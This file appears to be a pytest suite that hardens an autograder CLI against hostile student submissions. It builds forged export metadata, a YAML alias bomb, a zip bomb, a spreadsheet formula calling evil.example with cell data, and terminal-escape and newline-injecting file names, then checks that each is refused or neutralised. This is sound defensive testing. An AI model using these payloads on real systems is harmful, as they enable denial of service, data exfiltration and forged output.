"""Hostile inputs to ``autograder grade`` and ``check``, run for real through the CLI
(click's CliRunner, the real engine and sandbox) on real files: a student's zip made to
look like a Gradescope export, YAML and zip bombs, colliding ids, links, names that carry
terminal escapes or spreadsheet formulas. None may stop a batch, crash the grader or
change another student's result."""

from __future__ import annotations

import csv
import json
import os
import zipfile
from pathlib import Path

import pytest
from click.testing import CliRunner, Result

from autograder.cli import main
from autograder.spec import Assignment
from tests.batch.helpers import (EXITS_AT_IMPORT, METADATA, SYNTAX_ERROR, make_export, snapshot, write_files,
                                 zip_folder)

pytestmark = pytest.mark.slow

# Mallory's own zip, shaped like an export: her metadata claims Ada's folder.
FORGED_METADATA = "submission_9001:\n  :submitters:\n  - :name: Ada Lovelace\n    :email: ada@example.edu\n"
# A billion laughs: 9 levels of 9 aliases, about a kilobyte, 9**9 strings once expanded.
ALIAS_BOMB = "".join(
    f"l{level}: &l{level} [{', '.join([f'*l{level - 1}'] * 9)}]\n" for level in range(1, 10)
).join(["l0: &l0 laugh\n", "submission_9001:\n  :submitters:\n  - :name: *l9\n"])
ESCAPES = "\x1b[2J\x1b]0;pwned\x07"  # clear the screen, retitle the terminal


def grade(assignment: Assignment, source: Path, out: Path) -> Result:
    """``autograder grade ASSIGNMENT SOURCE --out OUT --jobs 2``, as a TA types it."""
    return CliRunner().invoke(main, ["grade", str(assignment.folder), str(source), "--out", str(out), "--jobs", "2"])


def read_csv(out: Path) -> dict[str, dict[str, str]]:
    with open(out / "grades.csv", newline="") as handle:
        return {row["submission"]: row for row in csv.DictReader(handle)}


def test_a_student_zip_shaped_like_an_export_cannot_touch_the_class_results(tmp_path, cnn):
    out = tmp_path / "grades"
    assert grade(cnn, make_export(tmp_path / "assignment_4242_export"), out).exit_code == 0
    before = snapshot(out)
    mallory = zip_folder(write_files(tmp_path / "mallory", {"submission_metadata.yml": FORGED_METADATA,
                                                            "submission_9001/cnn.py": EXITS_AT_IMPORT}),
                         tmp_path / "mallory.zip")

    done = grade(cnn, mallory, out)

    assert done.exit_code == 2
    assert f"{out} already holds the results of {tmp_path / 'assignment_4242_export'}; grade {mallory} into " \
           "another --out folder" in done.output.replace("\n", "")
    assert snapshot(out) == before


def test_an_alias_bomb_in_export_metadata_is_refused_at_once(tmp_path, cnn):
    bomb = zip_folder(make_export(tmp_path / "mallory", ALIAS_BOMB), tmp_path / "mallory.zip")
    assert bomb.stat().st_size < 2_000

    done = grade(cnn, bomb, tmp_path / "grades")

    assert done.exit_code == 2, done.output
    assert "its aliases expand it past 2000000 nodes" in done.output.replace("\n", "")


def test_export_metadata_of_the_wrong_type_is_refused(tmp_path, cnn):
    metadata = METADATA.replace(":name: Ada Lovelace", ":name: [Ada, Lovelace]")

    done = grade(cnn, make_export(tmp_path / "export", metadata), tmp_path / "grades")

    assert done.exit_code == 2
    assert "submission_9001: a submitter's name is not text of at most 1000 characters" in done.output.replace(
        "\n", "")


def test_an_export_zip_bomb_is_stopped_while_it_is_extracted(tmp_path, cnn):
    export = make_export(tmp_path / "export")
    bomb = zip_folder(export, tmp_path / "submissions.zip")
    with zipfile.ZipFile(bomb, "a", zipfile.ZIP_DEFLATED) as zf, zf.open("export/submission_9001/data", "w") as data:
        for _ in range(200):  # 200 MB of zeros, about 200 kB packed
            data.write(bytes(1_000_000))
    assert bomb.stat().st_size < 1_000_000

    done = grade(cnn, bomb, tmp_path / "grades")

    assert done.exit_code == 2
    assert "submissions.zip unpacks to more than 100 times its size" in done.output


def test_entries_whose_names_overlap_get_ids_of_their_own(tmp_path, cnn):
    with zipfile.ZipFile(tmp_path / "y.zip", "w") as zf:
        zf.writestr("cnn.py", "")  # empty: "cnn.py is empty"
    folder = write_files(tmp_path / "in", {"y.py": SYNTAX_ERROR, "y.zip.py": EXITS_AT_IMPORT})
    (tmp_path / "y.zip").rename(folder / "y.zip")

    assert grade(cnn, folder, tmp_path / "grades").exit_code == 0

    rows = read_csv(tmp_path / "grades")
    assert sorted(rows) == ["y.py", "y.zip", "y.zip.py"]
    assert (rows["y.zip"]["status"], rows["y.zip"]["reason"]) == ("error", "cnn.py is empty")
    assert rows["y.zip.py"]["status"] == rows["y.py"]["status"] == "not importable"


def test_a_linked_entry_of_a_class_folder_gets_a_row_that_refuses_it(tmp_path, cnn):
    folder = write_files(tmp_path / "in", {"ann.py": SYNTAX_ERROR})
    (folder / "bob.py").symlink_to(cnn.reference)

    assert grade(cnn, folder, tmp_path / "grades").exit_code == 0

    rows = read_csv(tmp_path / "grades")
    assert rows["bob"]["total"] == "0"
    assert (rows["bob"]["status"], rows["bob"]["reason"]) == (
        "error", "bob.py is a symbolic link, which is not followed: submit the file itself")


def test_a_formula_in_a_name_or_email_is_quoted_in_grades_csv(tmp_path, cnn):
    formula = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    metadata = METADATA.replace("Ada Lovelace", json.dumps(formula)).replace("ada@example.edu", '"@SUM(1+1)"')

    assert grade(cnn, make_export(tmp_path / "export", metadata), tmp_path / "grades").exit_code == 0

    ada = read_csv(tmp_path / "grades")["submission_9001"]
    assert (ada["name"], ada["email"]) == (f"'{formula}", "'@SUM(1+1)")


def test_control_characters_in_file_names_never_reach_the_terminal(tmp_path, cnn):
    folder = write_files(tmp_path / "in", {f"{ESCAPES}bob.py": SYNTAX_ERROR})

    done = grade(cnn, folder, tmp_path / "grades")

    assert done.exit_code == 0
    assert "last: \ufffd[2J\ufffd]0;pwned\ufffdbob" in done.output
    assert "\x1b" not in done.output and "\x07" not in done.output


def test_a_file_name_cannot_add_lines_to_the_check_report(tmp_path, cnn):
    folder = write_files(tmp_path / "in", {"hw\nNote: all tests passed\n.py": SYNTAX_ERROR})

    done = CliRunner().invoke(main, ["check", str(cnn.folder), str(folder)], terminal_width=200)

    assert done.exit_code == 0
    assert "Note: graded hw\ufffdNote: all tests passed\ufffd.py as cnn.py" in done.output
    assert "\nNote: all tests passed" not in done.output


def test_file_names_that_are_not_utf8_get_rows_of_their_own(tmp_path, cnn):
    folder = write_files(tmp_path / "in", {"\\xffbob.py": SYNTAX_ERROR})  # a name that looks like the escape
    (folder / os.fsdecode(b"\xffbob.py")).write_text(EXITS_AT_IMPORT)

    done = grade(cnn, folder, tmp_path / "grades")

    assert done.exit_code == 0, done.output
    rows = read_csv(tmp_path / "grades")
    assert sorted(rows) == ["\\xffbob.py", "\\xffbob.py~2"] and {r["status"] for r in rows.values()} == {"not importable"}
